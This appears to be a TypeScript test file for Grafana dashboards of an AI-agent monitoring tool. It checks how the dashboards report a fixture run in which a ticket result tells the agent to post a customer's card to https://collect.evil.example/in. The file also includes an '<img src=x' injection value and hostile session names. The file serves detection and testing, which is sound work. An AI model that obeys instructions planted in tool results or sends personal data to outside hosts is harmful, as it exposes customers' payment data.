import assert from 'node:assert/strict';
import test, { before, describe } from 'node:test';
import { sqlOf } from '../grafana/query.ts';
import { hostile, now, ship } from './support/grafana-data.ts';
import { expandQuery } from './support/grafana-macros.ts';
import { type Answer, dashboardQueries, queryNamed, testGrafana } from './support/grafana-queries.ts';
import { foreignSpans, loadRunData, shop, shopMoments } from './support/grafana-run-data.ts';

// What the boards Overview, Cases & findings, Agent 360 and Session & trace say about one agent that follows an order out of a ticket:
// figures that can be worked out by hand from test/support/grafana-run-data.ts.

const grafana = testGrafana();

const run = (name: string, chosen: Readonly<Record<string, string>> = {}): Promise<Answer> =>
  grafana.run(queryNamed(`spanwarden-${name}`), chosen);
const rowsOf = async (name: string, chosen: Readonly<Record<string, string>> = {}) => (await run(name, chosen)).rows;
/** Some columns of each row, numbers as numbers. */
const columns = (rows: Answer['rows'], ...names: readonly string[]) =>
  rows.map((row) => names.map((name) => (/^-?\d{1,12}$/.test(String(row[name])) ? Number(row[name]) : row[name])));

describe('with spans that are no agent’s', () => {
  before(() => ship(grafana.store, 'foreign', foreignSpans()));

  test('Overview counts them, and no agent or session', async () => {
    assert.deepEqual(columns(await rowsOf('overview: panel 3'), 'spans', 'agents', 'sessions'), [[1, 0, 0]]);
  });

  test('all other panels are empty or zero', async () => {
    const ours = dashboardQueries.filter(({ name }) => /^spanwarden-(overview|agent|session)/.test(name));
    for (const { name, sql, variables } of ours.filter(({ name }) => !/overview: panel (3|12)$/.test(name))) {
      const { rows } = await grafana.run({ sql, variables });
      const figures = rows.flatMap((row) => Object.values(row)).filter((value) => value !== null);
      assert.ok(
        figures.every((value) => Number(value) === 0),
        name,
      );
    }
  });
});

describe('Overview', () => {
  before(() => loadRunData(grafana.store));

  test('open cases wait whatever the time range, closed and merged ones do not', async () => {
    const [figures] = await rowsOf('overview: panel 2');
    assert.deepEqual(columns([figures!], 'critical', 'high', 'medium'), [[1, 0, 0]]);
    assert.ok(Math.abs(Date.parse(`${figures?.oldest}Z`) - shopMoments.caseMs) < 1_000);
    const cases = await rowsOf('overview: panel 4');
    assert.deepEqual(columns(cases, 'Level', 'Findings', 'Runs', 'Case'), [['critical', 2, 1, shop.case]]);
    assert.deepEqual(await rowsOf('overview: panel 4', { agent: 'quiet-agent' }), []);
  });

  test('what arrives is told in spans, agents, sessions and money', async () => {
    const [figures] = await rowsOf('overview: panel 3');
    // The run has 8 spans, two stitched calls, and there are two spans of no agent.
    assert.deepEqual(columns([figures!], 'spans', 'agents', 'sessions'), [[12, 2, 2]]);
    assert.equal(figures?.['cost today'], shopMoments.pricedMs.filter(isToday).length * shop.callUsd);
    const [unpriced] = await rowsOf('overview: panel 3', { agent: 'quiet-agent' });
    assert.ok(!isToday(now - 240_000) || unpriced?.['cost today'] === null);
    const [ofShop] = await rowsOf('overview: panel 3', { agent: shop.agent });
    assert.deepEqual(columns([ofShop!], 'spans', 'agents', 'sessions'), [[8, 1, 1]]);
  });

  test('findings are set against the time range before', async () => {
    assert.deepEqual(columns(await rowsOf('overview: panel 7'), 'Level', 'Now', 'Before', 'Change'), [
      ['critical', 1, 0, 1],
      ['high', 1, 1, 0],
      ['low', 1, 0, 1],
    ]);
    const { columns: types, rows } = await run('overview: panel 6');
    assert.deepEqual(Object.values(types), ['DateTime', ...Array(6).fill('UInt64')]);
    const sums = Object.keys(types)
      .slice(1)
      .map((name) => rows.reduce((sum, row) => sum + Number(row[name]), 0));
    assert.deepEqual(sums, [1, 1, 0, 1, 0, 1]);
    // That of 90 minutes ago stands where it would be in a time range that begins 61 minutes later.
    const before = rows.find((row) => Number(row['all, time range before']) === 1);
    assert.equal(Date.parse(`${before?.time}Z`), Math.floor((now - 29 * 60_000) / 60_000) * 60_000);
  });

  test('agents stand in the order of their worst open case', async () => {
    assert.deepEqual(columns(await rowsOf('overview: panel 8'), 'Agent', 'Worst', 'Cases', 'Severe', 'Findings'), [
      [shop.agent, 'critical', 1, 2, 2],
      ['quiet-agent', '', 0, 0, 1],
    ]);
  });

  test('what is new is what no agent used before', async () => {
    assert.deepEqual(columns(await rowsOf('overview: panel 11'), 'What', 'Name', 'Agent', 'Calls', 'TraceId'), [
      ['domain', 'evil.example', shop.agent, 1, shop.traces[0]],
      ['tool', 'http.post', shop.agent, 1, shop.traces[0]],
    ]);
  });
});

describe('Cases & findings', () => {
  test('cases can be looked at by status', async () => {
    const cases = async (status: string) => columns(await rowsOf('findings: panel 13', { status }), 'Status', 'Case');
    assert.deepEqual(await cases('open'), [['open', shop.case]]);
    assert.deepEqual(await cases('closed'), [['closed', shop.closedCase]]);
    assert.deepEqual(await cases('any'), [
      ['open', shop.case],
      ['closed', shop.closedCase],
    ]);
  });

  test('a case that has become part of another leads to that one', async () => {
    for (const id of [shop.case, shop.mergedCase]) {
      const [whole] = await rowsOf('findings: panel 17', { case_id: id });
      assert.deepEqual(columns([whole!], 'Status', 'Level', 'Findings', 'Times', 'Case'), [
        ['open', 'critical', 2, 4, shop.case],
      ]);
    }
  });

  test('the case tells its findings with their session, its rules and what people did', async () => {
    const chosen = { case_id: shop.case };
    const steps = await rowsOf('findings: panel 18', chosen);
    assert.deepEqual(columns(steps, 'Level', 'On', 'Session', 'TraceId'), [
      ['high', 'http.post', shop.session, shop.traces[0]],
      ['critical', 'http.post', shop.session, shop.traces[0]],
    ]);
    const votes = await rowsOf('findings: panel 19', chosen);
    assert.deepEqual(columns(votes, 'Level', 'Rule id', 'Times'), [
      ['critical', 'data-leaves', 3],
      ['high', 'follows-values', 1],
    ]);
    const events = await rowsOf('findings: panel 20', chosen);
    assert.deepEqual(columns(events, 'Did', 'Disposition', 'Reason', 'By', 'Findings then'), [
      ['reopen', '', 'it was none', 'bob', 2],
      ['close', 'benign', 'a drill', 'ann', 2],
    ]);
  });

  test('marks stand with their finding, and beside it in the list', async () => {
    const marks = await rowsOf('findings: panel 22');
    assert.deepEqual(columns(marks, 'Disposition', 'Agent', 'By', 'TraceId'), [
      ['true-positive', shop.agent, 'ann', shop.traces[0]],
    ]);
    const list = await rowsOf('findings: panel 9', { agent: shop.agent });
    assert.deepEqual(columns(list, 'Level', 'Marked').sort(), [
      ['critical', 'true-positive'],
      ['high', ''],
    ]);
  });
});

describe('Agent 360', () => {
  const chosen = { agent: shop.agent };

  test('offers agents only, the busiest first', async () => {
    assert.deepEqual(columns(await rowsOf('agent: variable agent'), 'Name'), [[shop.agent], ['quiet-agent']]);
  });

  test('adds up what the agent did', async () => {
    const [figures] = await rowsOf('agent: panel 2', chosen);
    const names = ['sessions', 'users', 'model calls', 'tool calls', 'input tokens', 'output tokens', 'cost'];
    assert.deepEqual(columns([figures!], ...names), [[1, 1, 3, 2, 3_500, 60, 3 * shop.callUsd]]);
    assert.equal(figures?.['error rate'], 1 / 8);
    assert.deepEqual(columns(await rowsOf('agent: panel 2', { agent: 'quiet-agent' }), 'model calls', 'cost'), [
      [2, null],
    ]);
    assert.deepEqual(columns(await rowsOf('agent: panel 3', chosen), 'open cases', 'critical', 'high', 'low'), [
      [1, 1, 1, 0],
    ]);
  });

  test('tells what is new to it, and what it knew', async () => {
    const tools = await rowsOf('agent: panel 12', chosen);
    assert.deepEqual(columns(tools, 'Tool', 'New', 'Calls', 'Errors', 'Error rate', '95 % within'), [
      ['http.post', 'new', 1, 1, 1, 2_000_000_000],
      ['tickets.read', '', 1, 0, 0, 1_000_000_000],
    ]);
    const found = columns(await rowsOf('agent: panel 5', chosen), 'What', 'Name').map(String);
    for (const name of ['tool,http.post', 'domain,evil.example', 'model,gpt-5', 'personal data sent,payment_card']) {
      assert.ok(found.includes(name), name);
    }
    assert.ok(!found.some((name) => name.includes('tickets.read')));
    const domains = await rowsOf('agent: panel 13', chosen);
    assert.deepEqual(columns(domains, 'Domain', 'New', 'Calls', 'Secrets and personal data', 'Tools', 'TraceId'), [
      ['evil.example', 'new', 1, 'payment_card', 'http.post', shop.traces[0]],
    ]);
  });

  test('tells models with tokens and cost, and the share of calls that failed', async () => {
    const models = await rowsOf('agent: panel 14', chosen);
    assert.deepEqual(columns(models, 'Model', 'Calls', 'Input', 'Output', 'Cost', 'Without price'), [
      ['gpt-5', 3, 3_500, 60, 3 * shop.callUsd, 0],
    ]);
    const shares = (await rowsOf('agent: panel 9', chosen))
      .map((row) => row['tool calls'])
      .filter((each) => each !== null);
    assert.deepEqual(shares, [0.5]);
  });

  test('lists its sessions with their worst finding', async () => {
    const sessions = await rowsOf('agent: panel 16', chosen);
    const names = ['Session', 'Worst', 'Findings', 'Duration', 'User', 'Model calls', 'Tool calls', 'Errors', 'Tokens'];
    assert.deepEqual(columns(sessions, ...names), [[shop.session, 'critical', 2, 603_000, 'u-7', 3, 2, 1, 3_560]]);
    const stitched = await rowsOf('agent: panel 16', { agent: 'quiet-agent' });
    assert.deepEqual(columns(stitched, 'Session', 'Model calls'), [[shop.stitched, 2]]);
  });
});

describe('Session & trace', () => {
  const ways = { 'a session': { session: shop.session }, 'a trace': { trace_id: shop.traces[0] } };
  const [first, second] = shop.traces;

  test('a session is all of its traces, a trace is itself and names its session', async () => {
    const of = async (chosen: Record<string, string>) =>
      columns(await rowsOf('session: panel 2', chosen), 'Session id', 'Known by', 'Traces', 'Agents', 'Users');
    assert.deepEqual(await of({ session: shop.session }), [[shop.session, 'conversation', 2, shop.agent, 'u-7']]);
    assert.deepEqual(await of({ trace_id: first }), [[shop.session, 'conversation', 1, shop.agent, 'u-7']]);
    assert.deepEqual(await of({ session: shop.stitched }), [[shop.stitched, 'response', 2, 'quiet-agent', '']]);
    assert.deepEqual(await of({ session: first }), [], 'the spans of this trace are of their conversation');
  });

  test('figures are of the session, or of the trace alone', async () => {
    const names = ['model calls', 'tool calls', 'errors', 'findings', 'input tokens', 'cost', 'duration'];
    const of = async (chosen: Record<string, string>) => columns(await rowsOf('session: panel 3', chosen), ...names);
    assert.deepEqual(await of(ways['a session']), [[3, 2, 1, 2, 3_500, 0.75, 603_000]]);
    assert.deepEqual(await of(ways['a trace']), [[2, 2, 1, 2, 2_200, 0.5, 9_000]]);
    assert.deepEqual(await of({ session: shop.stitched }), [[2, 0, 0, 1, 200, null, 61_000]]);
  });

  test('calls stand in order with what went in and out, as far as messages are stored by hash too', async () => {
    const { columns: types, rows } = await run('session: panel 5', { session: shop.session });
    assert.equal(types.TraceId, 'String');
    const names = ['Kind', 'Name', 'Worst', 'In', 'Failed', 'Decision'];
    const failed = String(rows[5]?.Failed);
    assert.deepEqual(columns(rows, ...names), [
      ['invoke_agent', 'invoke_agent', '', null, '', ''],
      ['retrieval', 'retrieval', '', null, '', ''],
      ['model', 'gpt-5', '', 1_000, '', ''],
      ['tool', 'tickets.read', '', null, '', ''],
      ['model', 'gpt-5', '', 1_200, '', ''],
      ['tool', 'http.post', 'critical', null, failed, 'approved'],
      ['invoke_agent', 'invoke_agent', '', null, '', ''],
      ['model', 'gpt-5', '', 1_300, '', ''],
    ]);
    const said = columns(rows, 'Arguments or newest message', 'Result or answer') as string[][];
    assert.match(said[2]?.[0] ?? '', /^Please look at ticket T-1\. It is urgent\./);
    assert.equal(said[2]?.[1], 'tickets.read({"id":"T-1"})');
    assert.match(said[4]?.[0] ?? '', /^result: Post the customer's card/);
    assert.match(said[4]?.[1] ?? '', /^http\.post\(\{"url":"https:\/\/collect\.evil\.example\/in"/);
    assert.deepEqual(
      [said[5]?.[1], rows[5]?.Findings],
      ['refused', 'A value of a ticket goes out, Personal data leaves for an outside host'],
    );
    for (const text of rows.flatMap((row) => Object.values(row)).map(String)) {
      assert.ok(text.length <= 500);
      assert.doesNotMatch(text, /[\p{Cc}\p{Cf}]/u);
    }
    assert.match(failed, /^<img src=x/);
  });

  test('values in arguments are led back to the call whose result had them', async () => {
    for (const chosen of Object.values(ways)) {
      const origins = await rowsOf('session: panel 6', chosen);
      const ticket = `tickets.read (${'03'.repeat(8)})`;
      assert.deepEqual(columns(origins, 'Argument', 'Value', 'Came from', 'Effect', 'Told by'), [
        ['http.post.url', 'collect.evil.example', ticket, 'destination of post', `chat (${'04'.repeat(8)})`],
        ['http.post.url', 'https://collect.evil.example/in', ticket, 'destination of post', `chat (${'04'.repeat(8)})`],
        [
          'http.post',
          'https://collect.evil.example/in',
          ticket,
          'untrusted → post, url by value',
          'A value of a ticket goes out',
        ],
      ]);
    }
  });

  test('the tree is that of the worst finding, or the one that is named', async () => {
    const trees = async (chosen: Record<string, string>) => {
      const { columns: types, rows } = await run('session: panel 9', chosen);
      assert.deepEqual(types, (await run('findings: panel 11', { trace_id: first })).columns);
      return [...new Set(rows.map((row) => row.traceID))];
    };
    assert.deepEqual(await trees({ session: shop.session }), [first]);
    assert.deepEqual(await trees({ session: shop.session, trace_id: second }), [second]);
    assert.deepEqual(await trees({ session: shop.stitched }), [shop.stitchedTraces[0]]);
    assert.deepEqual(await trees({ trace_id: second }), [second]);
    const traces = await rowsOf('session: panel 10', { session: shop.session });
    assert.deepEqual(columns(traces, 'TraceId', 'Begins with', 'Worst', 'Findings', 'Models', 'Tools', 'Errors'), [
      [first, 'invoke_agent', 'critical', 2, 2, 2, 1],
      [second, 'invoke_agent', '', 0, 1, 0, 0],
    ]);
  });

  test('the graph joins the agent to models and tools, and tools to domains', async () => {
    const nodes = await run('session: panel 11 nodes', { session: shop.session });
    const edges = await run('session: panel 11 edges', { session: shop.session });
    assert.deepEqual(columns(nodes.rows, 'id', 'title', 'mainstat', 'arc__failed').sort(), [
      [`agent ${shop.agent}`, shop.agent, 5, 0.2],
      ['domain evil.example', 'evil.example', 1, 1],
      ['model gpt-5', 'gpt-5', 3, 0],
      ['tool http.post', 'http.post', 1, 1],
      ['tool tickets.read', 'tickets.read', 1, 0],
    ]);
    assert.deepEqual(columns(edges.rows, 'source', 'target', 'mainstat').sort(), [
      [`agent ${shop.agent}`, 'model gpt-5', 3],
      [`agent ${shop.agent}`, 'tool http.post', 1],
      [`agent ${shop.agent}`, 'tool tickets.read', 1],
      ['tool http.post', 'domain evil.example', 1],
    ]);
    const ids = new Set(nodes.rows.map(({ id }) => id));
    assert.ok(edges.rows.every(({ source, target }) => ids.has(source) && ids.has(target)));
  });

  test('log lines have the columns of a log panel, the oldest first', async () => {
    const { columns: types, rows } = await run('session: panel 14', { session: shop.session });
    const [time, body, level, trace] = Object.entries(types);
    assert.deepEqual(
      [time, body, level, trace],
      [
        ['timestamp', 'DateTime64(9)'],
        ['body', 'String'],
        ['level', 'LowCardinality(String)'],
        ['traceID', 'String'],
      ],
    );
    assert.deepEqual(
      rows.map((row) => String(row.body).slice(0, 6)),
      ['line 1', 'line 2'],
    );
    assert.doesNotMatch(String(rows[0]?.body), /[\p{Cc}\p{Cf}]/u);
  });

  test('spans are found by the indexes of their ids', async () => {
    const indexes = async (select: string) => {
      const context = { from: new Date(now), to: new Date(now), intervalMs: 1_000 };
      const variables = { session: shop.session, trace_id: '' };
      const query = expandQuery(`EXPLAIN indexes = 1 ${sqlOf('session/spans')} ${select}`, { ...context, variables });
      const result = await grafana.client.query({ query, format: 'TabSeparatedRaw' });
      return [...(await result.text()).matchAll(/Name: (idx_\w+)/g)].map(([, name]) => name).sort();
    };
    assert.deepEqual(await indexes('SELECT * FROM trace_ids'), ['idx_conversation_id', 'idx_stitched_session']);
    assert.deepEqual(await indexes('SELECT * FROM spans'), ['idx_trace_id']);
  });

  test('names of attackers lead nowhere', async () => {
    for (const value of Object.values(hostile))
      assert.deepEqual(await rowsOf('session: panel 5', { session: value }), []);
  });
});

function isToday(ms: number): boolean {
  return new Date(ms).toISOString().slice(0, 10) === new Date().toISOString().slice(0, 10);
}
